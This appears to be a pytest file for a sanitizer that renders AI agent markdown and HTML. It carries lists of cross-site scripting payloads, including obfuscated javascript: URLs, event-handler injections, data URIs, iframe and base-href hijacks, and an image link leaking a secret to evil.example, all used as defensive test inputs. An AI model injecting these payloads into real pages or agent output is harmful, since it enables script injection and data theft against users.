"""Hostile agent text must not get markup, scripts or dangerous URLs into the view."""

from __future__ import annotations

import pytest
from html_checks import assert_safe, tags_of

from nb_agents.view.sanitize import clean_html, escape, markdown_to_html

HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](java%0Ascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<div style="position:fixed;inset:0">overlay</div>',
    "<!-- <script>alert(1)</script> -->",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '[x](https://ok.example "a" onmouseover="alert(1)")',
]


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN)
def test_hostile_markdown_renders_safely(source):
    html = markdown_to_html(source)
    assert_safe(html)
    assert "<script" not in html.lower() and "<iframe" not in html.lower() and "<style" not in html.lower()


def test_raw_html_is_shown_as_text_not_markup():
    html = markdown_to_html("a <b>bold</b> <img src=x onerror=alert(1)> claim")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and tags_of(html) == [("p", {})]


# The documented rule (view/sanitize.py): nothing is loaded from the network, so an image in agent
# markdown becomes a link "🖼 alt" (no <img>); the link keeps the URL only where a link may (an
# absolute http(s) or mailto URL), any other source is dropped and the alt text stays.
IMAGE_SOURCES = [
    ("![p](https://example.org/p.png)", "https://example.org/p.png"),
    ("![p](http://example.org/p.png)", "http://example.org/p.png"),
    ("![p](//evil.example/p.png)", None),  # protocol-relative: not absolute
    ("![p](chart.png)", None),  # relative: a sandbox path means nothing here
    ("![p](/mnt/session/outputs/c.png)", None),
    ("![p](ftp://example.org/p.png)", None),
    ("![p](data:image/png;base64,iVBORw0KGgo=)", None),
    ("![p](mailto:a@b.example)", "mailto:a@b.example"),
]


@pytest.mark.parametrize(("source", "href"), IMAGE_SOURCES)
def test_image_sources_follow_the_documented_rule(source, href):
    tags = tags_of(markdown_to_html(source))
    assert "img" not in [t for t, _ in tags]
    [(tag, attrs)] = [(t, a) for t, a in tags if t == "a"]
    assert attrs.get("href") == href and "\N{FRAME WITH PICTURE} p" in markdown_to_html(source)


def test_nothing_carries_a_source():
    for source in HOSTILE_MARKDOWN:
        for tag, attrs in tags_of(markdown_to_html(source)):
            assert "src" not in attrs, (source, tag)


def test_image_with_data_uri_loses_its_source():
    html = markdown_to_html("![chart](data:image/png;base64,iVBORw0KGgo=)")
    assert tags_of(html) == [("p", {}), ("a", {"target": "_blank", "rel": "noopener noreferrer nofollow"})]
    assert "\N{FRAME WITH PICTURE} chart" in html


def test_remote_images_are_links_never_loaded():
    html = markdown_to_html("see ![t](https://evil.example/p.png?leak=SECRET) and ![r][ref]\n\n"
                            "[ref]: http://evil.example/q.png")
    assert "img" not in [t for t, _ in tags_of(html)]
    links = [a["href"] for t, a in tags_of(html) if t == "a"]
    assert links == ["https://evil.example/p.png?leak=SECRET", "http://evil.example/q.png"]


HOSTILE_HTML = [
    '<a href="javascript:alert(1)" onclick="x()">y</a>',
    '<a href="  JAVASCRIPT:alert(1)">y</a>',
    '<a href="jav&#x09;ascript:alert(1)">y</a>',
    '<a href="data:text/html,<script>alert(1)</script>">y</a>',
    '<img src="data:image/png;base64,AA" onerror="x()">',
    "<script>alert(1)</script><p>ok</p>",
    "<style>*{color:red}</style><p>ok</p>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg><script>alert(1)</script></svg><svg onload="alert(1)"/>',
    '<form action="https://x"><input autofocus onfocus=alert(1)></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<td style="text-align:left;background:url(x)">c</td>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("fragment", HOSTILE_HTML)
def test_clean_html_is_the_backstop(fragment):
    html = clean_html(fragment)
    assert_safe(html)
    assert "alert" not in html or "<" not in html.split("alert")[0][-20:]  # no live markup around it


def test_useful_markdown_survives():
    source = (
        "# Title\n\n**bold** *em* `code` ~~no~~\n\n- a\n- b\n\n1. one\n\n> quote\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```\n\n"
        "[site](https://example.org) [mail](mailto:a@b.example) ![pic](https://example.org/p.png)"
    )
    html = markdown_to_html(source)
    tags = [t for t, _ in tags_of(html)]
    for tag in (
        "h1",
        "s",
        "strong",
        "em",
        "code",
        "ul",
        "ol",
        "li",
        "blockquote",
        "table",
        "th",
        "td",
        "pre",
        "a",
    ):
        assert tag in tags, tag
    links = [a for t, a in tags_of(html) if t == "a"]
    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@b.example", "https://example.org/p.png"]
    assert all("noopener" in a["rel"] and a["target"] == "_blank" for a in links)
    attrs = dict(tags_of(html))
    assert attrs["th"]["style"] == "text-align:right" and "img" not in attrs  # images are links (nothing loads)
    assert "x = 1 &lt; 2" in html
    assert_safe(html)


def test_empty_markdown_is_empty():
    assert markdown_to_html("") == ""


def test_escape_escapes_text_and_attribute_characters():
    assert escape('<a href="x">&\'') == "&lt;a href=&quot;x&quot;&gt;&amp;&#x27;"
    assert escape(42) == "42"


def test_property_inert_markdown_runs_and_loads_nothing():
    import random

    from markdown_it import MarkdownIt

    from nb_agents.view.sanitize import inert_markdown

    permissive = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    pieces = ["<", ">", "<img src=x onerror=a()>", "<script>", "</script>", "![a](https://e.x/i.png)", "![",
              "](", ")", "[r]: https://e.x/r.png\n", "![b][r]", "`", "```\n", "\n", "\n\n", "> ", "- ", "<!--",
              "-->", "<a href=x onclick=b()>", "\\", "&lt;", "text", " ", "|a|b|\n|-|-|\n", "<div>\n", "    "]
    rng = random.Random(1613)
    for _ in range(1500):
        source = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
        tags = tags_of(permissive.render(inert_markdown(source)))
        assert not [t for t, _ in tags if t not in ("p", "a", "code", "pre", "blockquote", "ul", "li", "table",
                                                   "thead", "tbody", "tr", "th", "td", "br", "hr", "em",
                                                   "strong", "h1", "h2")], (source, tags)
        assert not any(k.startswith("on") for _, attrs in tags for k in attrs), source
